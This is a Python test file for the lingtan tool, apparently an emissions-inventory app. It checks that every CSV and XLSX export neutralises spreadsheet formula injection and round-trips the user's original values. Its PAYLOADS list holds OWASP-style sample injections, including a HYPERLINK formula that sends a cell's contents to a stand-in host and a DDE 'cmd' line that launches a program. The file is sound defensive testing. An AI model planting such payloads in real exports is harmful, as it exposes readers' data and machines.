"""Exports cannot attack their reader (OWASP "CSV Injection"; decision 0035): every CSV and XLSX
lingtan writes — inventory CSV and workbook, rejected rows and their reasons, the quarantine
list and the lineage rows of the CLI, templates, the published figures download — neutralises a
text cell a spreadsheet would run as a formula, keeps numbers as numbers, and a rejected-rows
file imports again with the values the user first wrote."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
import yaml
from openpyxl import load_workbook
from typer.testing import CliRunner

from biogenickit import YEAR, build_bio_workspace
from lingtan.adapters.cli.main import app as cli
from lingtan.adapters.io.cell_safety import (
    is_dangerous,
    safe_cell,
    safe_csv_bytes,
    safe_table,
    safe_text,
    unneutralise,
)
from lingtan.adapters.io.importer import import_file
from lingtan.adapters.io.intake import read_raw_rows, write_issues_csv, write_template
from lingtan.adapters.io.inventory_export import to_csv, write_xlsx
from lingtan.adapters.io.published_figures import parse_published_figures
from lingtan.adapters.io.quarantine import export_rejected
from lingtan.adapters.services.calculation import calculate_year, latest_inventory
from lingtan.adapters.store.workspace import Workspace, open_workspace
from lingtan.core.errors import RowIssue
from lingtan.core.periods import FiscalCalendar

#: OWASP's examples and their disguises
PAYLOADS = [
    '=HYPERLINK("http://x.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def assert_inert_text(cells: list[Any], where: str) -> None:
    """No text cell starts with a formula character, unless it is a plain number."""
    bad = [
        c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not _number(c)
    ]
    assert not bad, f"{where}: cells a spreadsheet would run: {bad}"


def csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for c in row]


def xlsx_cells(path: Path) -> list[Any]:
    book = load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows(values_only=True) for c in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_quoted_text_and_reads_back(payload: str) -> None:
    assert is_dangerous(payload)
    assert safe_text(payload) == "'" + payload
    assert unneutralise(safe_text(payload)) == payload


@pytest.mark.parametrize("value", ["-12.5", "+3", "-1.2e3", ".5", "TJ01", "'quoted", "a=b", ""])
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    assert safe_text(value) == value
    assert unneutralise(value) == value
    assert safe_cell(-12.5) == -12.5
    assert safe_cell(None) is None


HOSTILE_FUEL = (
    "site,date,fuel,quantity,unit\n"
    f'"{PAYLOADS[0].replace(chr(34), chr(34) * 2)}",2023-06-01,b30_biodiesel,10,L\n'
    "@SUM(1),2023-07-01,b30_biodiesel,-1+1,L\n"
    "HQ,2023-08-01,b30_biodiesel,\t=1+1,L\n"
)


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory, workspace_store: str) -> Workspace:
    """The biofuel workspace with a second fuel file: an accepted row whose site is a
    formula, two rejected rows holding formulas; FY2023/24 calculated again."""
    folder = build_bio_workspace(tmp_path_factory.mktemp("cells"))
    config = yaml.safe_load((folder / "lingtan.yaml").read_text(encoding="utf-8"))
    hq = config["sites"][0]
    config["sites"].append({**hq, "id": PAYLOADS[0], "name": PAYLOADS[1]})
    (folder / "lingtan.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    w = open_workspace(folder)
    f = folder / "in" / "fuel_hostile.csv"
    f.write_text(HOSTILE_FUEL, encoding="utf-8")
    rep = import_file(w, f)
    assert (rep.rows_accepted, rep.rows_rejected) == (1, 2), rep.issues
    calculate_year(w, YEAR)
    return w


def test_inventory_csv_and_workbook(ws: Workspace, tmp_path: Path) -> None:
    inv = latest_inventory(ws, YEAR)
    text = to_csv(inv)
    assert f"'{PAYLOADS[0]}" in csv_cells(text)  # the site, shown as text
    assert_inert_text(csv_cells(text), "inventory CSV")
    cells = xlsx_cells(write_xlsx([inv], tmp_path / "inv.xlsx"))
    assert f"'{PAYLOADS[0]}" in cells
    assert_inert_text(cells, "inventory XLSX")


def test_rejected_rows_round_trip(ws: Workspace, tmp_path: Path) -> None:
    batch = next(b for b in ws.batches() if b.file_name == "fuel_hostile.csv")
    out = tmp_path / "fuel-rejected.csv"
    assert export_rejected(ws, batch, out) == 2
    text = out.read_text(encoding="utf-8-sig")
    assert_inert_text(csv_cells(text), "rejected rows")
    assert_inert_text(csv_cells(out.with_suffix(".issues.csv").read_text("utf-8-sig")), "issues")
    assert "'@SUM(1)" in csv_cells(text)
    # what the user wrote comes back when the file is read again
    _, rows = read_raw_rows(out, "fuel")
    assert [r[0] for r in rows.values()] == ["@SUM(1)", "HQ"]
    assert [r[3] for r in rows.values()] == ["-1+1", "=1+1"]
    # fixed and imported again: every row accepted
    fixed = tmp_path / "fuel.csv"
    fixed.write_text(
        text.replace("'@SUM(1)", "HQ").replace("'-1+1", "5").replace("'=1+1", "6"),
        encoding="utf-8-sig",
    )
    rep = import_file(ws, fixed, fixes=batch.id)
    assert (rep.rows_accepted, rep.rows_rejected) == (2, 0), rep.issues


def test_issue_report_and_templates(tmp_path: Path) -> None:
    issues = [RowIssue(p, 2, "site", p, p) for p in PAYLOADS]
    p = write_issues_csv(issues, tmp_path / "issues.csv")
    assert_inert_text(csv_cells(p.read_text("utf-8-sig")), "issues CSV")
    for suffix in (".csv", ".xlsx"):
        t = write_template("fuel", tmp_path / f"fuel{suffix}")
        cells = csv_cells(t.read_text("utf-8-sig")) if suffix == ".csv" else xlsx_cells(t)
        assert_inert_text(cells, f"template {suffix}")


def test_cli_quarantine_list_and_lineage_rows(ws: Workspace, tmp_path: Path) -> None:
    runner = CliRunner()
    listing = tmp_path / "quarantine.csv"
    r = runner.invoke(
        cli, ["quarantine", "--workspace", str(ws.path), "--all", "--output", str(listing)]
    )
    assert r.exit_code == 0, r.output
    cells = csv_cells(listing.read_text("utf-8"))
    assert "'-1+1" in cells
    assert_inert_text(cells, "CLI quarantine list")
    rows = tmp_path / "lineage.csv"
    r = runner.invoke(
        cli,
        [
            "explain",
            "--workspace",
            str(ws.path),
            "--year",
            YEAR,
            "--scope",
            "1",
            "--output",
            str(rows),
        ],
    )
    assert r.exit_code in (0, 1), r.output
    cells = csv_cells(rows.read_text("utf-8"))
    assert any(c.endswith(PAYLOADS[0][1:]) for c in cells)
    assert_inert_text(cells, "CLI lineage rows")


def test_table_and_stored_csv_helpers() -> None:
    table = pa.table({"name": PAYLOADS, "value": [-1.5] * len(PAYLOADS)})
    safe = safe_table(table)
    assert safe.column("value").to_pylist() == [-1.5] * len(PAYLOADS)
    assert_inert_text(safe.column("name").to_pylist(), "lineage table")
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(
        [["label", "value"], *[[p, -3] for p in PAYLOADS]]
    )
    stored = ("\ufeff" + buf.getvalue()).encode()
    out = safe_csv_bytes(stored)
    assert out.startswith(b"\xef\xbb\xbf")
    cells = csv_cells(out.decode("utf-8-sig"))
    assert "-3" in cells
    assert_inert_text(cells, "stored CSV")


def test_published_figures_download_reads_back_the_same() -> None:
    text = (
        "id,fiscal_year,kind,value,unit,decimals,lingtan,region,parts,group,label\n"
        'T,FY2023-24,inventory_total,"1,512.30",1e4 t,-2,total,,,,=SUM(A1)\n'
        "E,FY2023/24,energy,3.9,GWh,1,-,,,,@label\n"
    )
    cal = FiscalCalendar(4)
    served = safe_csv_bytes(text.encode()).decode()
    assert_inert_text(csv_cells(served), "published figures download")
    again = parse_published_figures(served, "figures.csv", cal)
    assert again == parse_published_figures(text, "figures.csv", cal)
    assert [f.label for f in again] == ["=SUM(A1)", "@label"]
